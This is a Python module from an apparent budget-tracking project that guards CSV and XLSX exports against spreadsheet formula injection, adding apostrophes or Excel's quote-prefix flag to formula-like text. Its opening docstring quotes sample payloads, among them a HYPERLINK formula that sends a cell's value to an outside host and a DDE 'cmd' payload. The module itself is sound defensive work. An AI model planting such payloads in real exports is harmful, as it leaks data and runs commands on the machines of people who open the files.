"""Text from feeds and users never becomes a formula in a spreadsheet (CSV/formula injection).

A payee named ``=HYPERLINK("http://host/?"&A1,"点击核对")``, ``+cmd|' /C calc'!A0``,
``@SUM(1+1)`` or ``-2+3`` is data, but Excel, WPS and LibreOffice evaluate a cell that starts
with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return before them) — in a CSV file
whatever the quoting, and in an XLSX file when the writer stores the text as a formula
(openpyxl does for any string starting with ``=``). Every CSV and XLSX writer of budgetwatch,
the dashboard's downloads and the CLI's exports alike, sends its cells through here:

* CSV: such a text gets a leading apostrophe (``'=HYPERLINK(…)``), the convention spreadsheets
  read as "this is text" (OWASP's advice; there is no other way to mark a CSV cell as text).
* XLSX: the text is stored as a string cell with Excel's quote-prefix flag — the same
  apostrophe convention, but Excel shows the value as it is and keeps it text even when
  someone edits the cell.

Numbers stay numbers: only text is touched, and a text that is a plain number (``-2``,
``-1,200.50``, ``+5%``) cannot compute anything and is left as it is — as is a lone ``-``.
"""
from __future__ import annotations

import re

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_STARTS = r"^[=+\-@\t\r]"
_PLAIN_NUMBER = r"^[+-]?(\d[\d,]*(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?$"
_PLAIN_NUMBER_RE = re.compile(_PLAIN_NUMBER)
# A separator a spreadsheet may split a CSV line at, then a formula start: inside the ``#``
# context lines above a CSV table (their values come from the URL and the data).
_AFTER_SEPARATOR_RE = re.compile(r"([,;\t]\s*)(?=[=+\-@])")


def formula_like(value: object) -> bool:
    """Would a spreadsheet evaluate this cell? True only for text (never for numbers)."""
    return (isinstance(value, str) and len(value) > 1 and value.startswith(FORMULA_START)
            and not _PLAIN_NUMBER_RE.match(value))


def for_csv(value: object) -> object:
    """A CSV cell value: formula-like text with a leading apostrophe, anything else unchanged."""
    return "'" + value if formula_like(value) else value


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame with every text cell made safe for CSV (a copy when anything changed); numeric
    columns are not looked at, so amounts keep their type."""
    out = frame
    for i, col in enumerate(frame.columns):
        series = frame.iloc[:, i]
        if pd.api.types.is_numeric_dtype(series.dtype) or pd.api.types.is_datetime64_any_dtype(series.dtype):
            continue
        mask = series.map(formula_like).astype(bool)
        if mask.any():
            if out is frame:
                out = frame.copy()
            fixed = series.astype(object).where(~mask, "'" + series[mask].astype(str))
            out.isetitem(i, fixed)
    return out


def _arrow_mask(column: pa.Array | pa.ChunkedArray) -> pa.Array | None:
    """Which cells of an Arrow text column are formula-like (None for other types)."""
    if not (pa.types.is_string(column.type) or pa.types.is_large_string(column.type)):
        return None
    starts = pc.match_substring_regex(column, _STARTS)
    plain = pc.match_substring_regex(column, _PLAIN_NUMBER)
    long_enough = pc.greater(pc.utf8_length(column), 1)
    return pc.fill_null(pc.and_(pc.and_(starts, pc.invert(plain)), long_enough), False)


def csv_batch(batch: pa.RecordBatch | pa.Table) -> pa.RecordBatch | pa.Table:
    """An Arrow batch with every text cell made safe for CSV (vectorised, for streamed exports)."""
    columns, changed = [], False
    for column in batch.columns:
        mask = _arrow_mask(column)
        if mask is not None and pc.any(mask).as_py():
            quote, empty = pa.scalar("'", column.type), pa.scalar("", column.type)
            column = pc.if_else(mask, pc.binary_join_element_wise(quote, column, empty), column)
            changed = True
        columns.append(column)
    if not changed:
        return batch
    kind = pa.Table if isinstance(batch, pa.Table) else pa.RecordBatch
    return kind.from_arrays(columns, schema=batch.schema)


def formula_like_rows(batch: pa.RecordBatch) -> set[int]:
    """Row numbers of a batch holding at least one formula-like text cell (XLSX writers write
    those cell by cell with the quote prefix; the rest go row by row, fast)."""
    rows: set[int] = set()
    for column in batch.columns:
        mask = _arrow_mask(column)
        if mask is not None and pc.any(mask).as_py():
            rows.update(pc.indices_nonzero(mask).to_pylist())
    return rows


def csv_context_line(text: str) -> str:
    """A ``# key: value`` line above a CSV table: it starts with ``#``, but a spreadsheet still
    splits it at commas, so a value part after a separator gets the apostrophe too."""
    return _AFTER_SEPARATOR_RE.sub(r"\1'", text)
